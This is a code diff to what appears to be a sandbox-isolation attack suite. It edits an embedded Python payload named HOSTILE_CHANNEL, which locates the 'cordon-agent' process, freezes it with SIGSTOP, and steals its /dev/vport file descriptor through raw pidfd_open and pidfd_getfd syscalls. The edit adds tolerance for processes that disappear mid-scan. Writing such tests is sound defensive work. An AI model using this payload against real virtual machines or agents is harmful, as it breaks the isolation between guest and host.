@@ -151,8 +151,19 @@ const hostDevices: Attack = {
 const HOSTILE_CHANNEL = String.raw`
 import ctypes, glob, os, signal, struct, time
 libc = ctypes.CDLL(None, use_errno=True)
-pid = next(int(p.split('/')[2]) for p in glob.glob('/proc/[0-9]*/comm') if open(p).read().strip() == 'cordon-agent')
-port = next(int(f.rsplit('/', 1)[1]) for f in glob.glob('/proc/%d/fd/*' % pid) if os.readlink(f).startswith('/dev/vport'))
+# Processes and fds come and go while this looks (the command's own pipes, short-lived processes): skip what vanished.
+def comm(path):
+    try:
+        return open(path).read().strip()
+    except OSError:
+        return ''
+def link(path):
+    try:
+        return os.readlink(path)
+    except OSError:
+        return ''
+pid = next(int(p.split('/')[2]) for p in glob.glob('/proc/[0-9]*/comm') if comm(p) == 'cordon-agent')
+port = next(int(f.rsplit('/', 1)[1]) for f in glob.glob('/proc/%d/fd/*' % pid) if link(f).startswith('/dev/vport'))
 os.kill(pid, signal.SIGSTOP)
 fd = libc.syscall(438, libc.syscall(434, pid, 0), port, 0)
 print('fd', fd, flush=True)
